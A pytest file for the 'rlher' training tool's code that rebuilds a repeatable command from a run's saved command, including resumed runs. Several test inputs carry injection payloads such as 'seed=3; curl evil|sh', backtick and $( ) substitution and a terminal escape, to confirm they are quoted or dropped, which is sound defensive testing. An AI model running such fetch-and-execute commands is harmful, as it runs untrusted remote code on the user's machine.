"""The command that repeats one run, also if the run was extended."""

import pytest

from rlher.analysis.loading import read_run
from rlher.runs.metadata import repeat_command, resume_note
from tests.conftest import Make
from tests.support.report_page import read, section


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("rlher train algo=sac seed=3", "rlher train algo=sac seed=3"),
        ("rlher train seed=3\nrlher train --resume a", "rlher train seed=3"),
        ("rlher train seed=3; curl evil|sh", "rlher train 'seed=3;' curl 'evil|sh'"),
        ("rlher train seed=3 `curl evil` $(evil)", "rlher train seed=3 '`curl' 'evil`' '$(evil)'"),
        ("curl evil|sh\nrlher train seed=3\ncurl evil|sh", "rlher train seed=3"),
        ("rlher-evil train\n;rlher train\n'rlher train'\n\n", ""),
        ("rlher train \x1b[201~ seed=3", ""),
    ],
)
def test_the_first_line_that_is_a_command_is_shown(make_run: Make, typed: str, expected: str) -> None:
    folder = make_run("a", 3, algo={"net_arch": [8, 8]})
    (folder / "command.txt").write_text(f"{typed}\n")
    run = read_run(folder)
    assert repeat_command(run.command, run.config) == expected


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("total_timesteps=+500", "rlher train --total-timesteps 500 seed=3 total_timesteps=1000"),
        ("total_timesteps=+500 threads=2", "rlher train --total-timesteps 500 seed=3 total_timesteps=1000"),
        ("seed=3 logs=a", "rlher train --total-timesteps 500 seed=3"),
    ],
)
def test_an_extended_run_has_its_values_at_the_end(make_run: Make, typed: str, expected: str) -> None:
    run = read_run(make_run("a", 3))
    lines = f"rlher train --total-timesteps 500 seed=3\nrlher train --resume a {typed}\n"
    assert repeat_command(lines, run.config) == expected
    assert ("total_timesteps" in resume_note(lines, run.config)) == ("total_timesteps" in expected)
    assert resume_note(lines.splitlines()[0], run.config) == ""


def test_the_report_has_the_length_of_an_extended_run(rlher, make_run: Make) -> None:
    lines = "rlher train total_timesteps=500\nrlher train --resume total_timesteps=1e3"
    (make_run("a") / "command.txt").write_text(lines)
    rlher("report")
    assert "<code>rlher train total_timesteps=1000</code>" in section(read(), "runs")
